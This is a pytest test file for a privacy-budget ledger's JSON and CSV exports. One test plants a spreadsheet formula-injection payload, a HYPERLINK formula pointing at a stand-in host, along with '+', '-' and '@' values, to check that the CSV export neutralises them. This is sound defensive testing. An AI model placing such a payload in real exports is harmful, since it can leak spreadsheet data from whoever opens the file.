import csv
import io
import json

import pytest

from confrere.kernel.guarantee import Guarantee, Promised


@pytest.fixture
def busy(ledger, tenth):
    receipt = ledger.charge("study", tenth, purpose='fit, "quoted"', event=Promised(0.1))
    ledger.mark_released(receipt, digest="00ff")
    ledger.open_account("open")
    ledger.charge("open", Guarantee(2.0, 1e-6), purpose="vote", key="k", simulated=True)
    return ledger


def test_json_is_whole_and_of_one_moment(busy):
    document = json.loads(busy.to_json())
    assert document["head"] == busy.head()
    assert document["ledger_id"] == busy.charge("study", Guarantee(0.1), purpose="x").ledger_id
    study, unbounded = document["accounts"]
    assert (study["epsilon"], study["spent"], study["left"]) == (1.0, 0.1, 0.9)
    assert (unbounded["epsilon"], unbounded["left"], unbounded["unit"]) == (None, None, "record")
    assert [entry["guarantee"]["epsilon"] for entry in document["entries"]] == [0.1, 2.0]
    assert document["entries"][0]["state"] == "released"


def test_no_cell_of_the_csv_is_a_formula(ledger, tenth):
    """Attack: a study whose name a spreadsheet computes when the officer opens the export."""
    name = '=HYPERLINK("http://x/"&A1)'
    ledger.charge("study", tenth, purpose="+1", key="@x", study=(name, "0" * 64))
    ledger.refuse((name, "0" * 64), name="dpo", reason="-2")
    for line in csv.reader(io.StringIO(ledger.to_csv())):
        assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@")]
        assert "'" + name in line or line[0] == "row"
